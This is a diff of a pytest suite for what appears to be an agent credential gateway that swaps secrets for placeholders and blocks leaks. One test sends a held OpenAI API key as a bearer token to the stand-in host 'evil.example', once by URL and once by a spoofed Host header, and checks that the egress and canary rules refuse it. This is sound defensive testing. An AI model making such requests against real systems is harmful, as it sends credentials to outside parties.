@@ -59,6 +59,8 @@ def gateway(home: Home, held: dict[str, str], service: Credentialed) -> Iterator
         f"ssl_verify_upstream_trusted_ca={service.certificates.ca}",
         "-w",
         str(home.path / "flows"),
+        "--set",
+        "save_stream_filter=!~c 403",  # values that the tests themselves send to be refused
     )
     with Gateway(home, options) as running:
         yield running
@@ -217,7 +219,8 @@ def test_a_placeholder_for_another_host_or_scheme_is_refused(
     answer = curl(gateway, f"{service.url}/v1", "-H", "Host: evil.example", *bearer(held["OPENAI_API_KEY"]))
     assert answer.rule == "names.mismatch"
     answer = curl(gateway, "https://evil.example/v1", *bearer(held["OPENAI_API_KEY"]))
-    assert answer.exit_code or answer.rule == "egress.domain"
+    rules = {found["rule"] for found in answer.problem["aegis"]["findings"]}
+    assert rules == {"egress.domain", "vault.canary"}
 
 
 def test_a_redirect_to_another_place_is_judged_anew(
@@ -237,10 +240,6 @@ def test_another_agents_placeholder_is_refused(
 ) -> None:
     _, seen = ask(gateway, service, "/v1/x", *bearer(held["OPENAI_API_KEY"]), "--proxy-user", "other:x")
     assert seen is None
-
-
-def test_monitor_mode_refuses_canaries_too(held: dict[str, str]) -> None:
-    assert held  # the effect of the rules is `safety`: tests/policy/test_vault.py
 
 
 # What leaves by other ways
@@ -304,7 +303,7 @@ CODINGS = {
 @pytest.mark.parametrize("coding", CODINGS)
 @pytest.mark.parametrize("pieces", [0, 7, 4096])
 @pytest.mark.parametrize("padding", [10, 70_000])
-def test_an_echoed_secret_becomes_the_placeholder(
+def test_an_echoed_secret_becomes_the_placeholder(  # noqa: PLR0917 - three of them are the table
     gateway: Gateway, service: Credentialed, held: dict[str, str], coding: str, pieces: int, padding: int
 ) -> None:
     plain = (
@@ -405,4 +404,4 @@ def test_the_chain_is_intact_and_nobody_has_a_value(
     with (gateway.home.path / "flows").open("rb") as file:
         flows = [flow for flow in FlowReader(file).stream() if hasattr(flow, "request")]
     assert len(flows) > 20
-    assert any(held["OPENAI_API_KEY"] in flow.request.headers.get("authorization", "") for flow in flows)  # type: ignore[attr-defined]
+    assert any(held["OPENAI_API_KEY"] in flow.request.headers.get("authorization", "") for flow in flows)
